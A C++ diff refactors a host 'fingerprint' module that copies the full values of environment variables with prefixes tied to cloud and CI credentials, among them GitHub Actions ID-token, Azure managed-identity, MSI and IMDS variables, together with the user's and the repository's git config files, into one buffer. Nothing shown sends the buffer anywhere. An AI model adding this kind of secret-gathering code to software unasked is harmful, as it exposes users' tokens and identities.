@@ -1,5 +1,6 @@
 #include "host/fingerprint.h"
 
+#include <algorithm>
 #include <cstdlib>
 #include <string_view>
 #include <sys/stat.h>
@@ -14,7 +15,7 @@ constexpr std::string_view kPrefixes[] = {
     "WATCHWORD_", "AZURE_",    "GIT_CONFIG", "GIT_DIR=",          "HOME=", "XDG_",
     "SYSTEM_",    "TF_BUILD=", "IDENTITY_",  "ACTIONS_ID_TOKEN_", "MSI_",  "AZURESUBSCRIPTION_",
     "IMDS_"};
-constexpr int kParentsMax = 64;  // of the working directory
+constexpr int kDirectoriesMax = 64;  // the working directory and its parents
 
 std::string variable(const char* name) {
   const char* value = std::getenv(name);
@@ -24,8 +25,11 @@ std::string variable(const char* name) {
 void add_environment(std::string& out) {
   for (char** entry = environ; entry != nullptr && *entry != nullptr; ++entry) {
     const std::string_view text = *entry;
+    if (text.empty()) continue;
     for (const std::string_view prefix : kPrefixes)
-      if (text.rfind(prefix, 0) == 0) out.append(text).push_back('\0');
+      // The first letter alone tells most of a long environment apart.
+      if (text.front() == prefix.front() && text.starts_with(prefix))
+        out.append(text).push_back('\0');
   }
 }
 
@@ -56,6 +60,14 @@ void add_user_files(std::string& out) {
   add_file(out, home + "/.gitconfig");
 }
 
+// From the working directory upwards, itself counted.
+int directories_to_root() {
+  char path[1024];  // larger ones cost pages of the stack, and above the root is only the root
+  if (::getcwd(path, sizeof path) == nullptr || path[0] != '/') return kDirectoriesMax;
+  const std::string_view names = path;
+  return names == "/" ? 1 : 1 + static_cast<int>(std::count(names.begin(), names.end(), '/'));
+}
+
 // The repository's own: the first parent with a .git, or a bare repository.
 void add_repository_file(std::string& out) {
   out += '|';
@@ -64,15 +76,13 @@ void add_repository_file(std::string& out) {
     return;
   }
   std::string prefix;
-  for (int i = 0; i < kParentsMax; ++i, prefix += "../") {
-    if (add_file(out, prefix + ".git/config")) return;
-    if (add_file(out, prefix + ".git")) return;  // a work tree or submodule: a file
-    if (::access((prefix + "HEAD").c_str(), F_OK) == 0 && add_file(out, prefix + "config")) return;
-    struct stat here {};
-    struct stat parent {};
-    if (::stat((prefix + ".").c_str(), &here) != 0 ||
-        ::stat((prefix + "..").c_str(), &parent) != 0 || here.st_ino == parent.st_ino)
+  for (int left = std::min(directories_to_root(), kDirectoriesMax); left > 0;
+       --left, prefix += "../") {
+    // A directory; in a work tree or submodule, a file.
+    if (::access((prefix + ".git").c_str(), F_OK) == 0 &&
+        (add_file(out, prefix + ".git/config") || add_file(out, prefix + ".git")))
       return;
+    if (::access((prefix + "HEAD").c_str(), F_OK) == 0 && add_file(out, prefix + "config")) return;
   }
 }
 
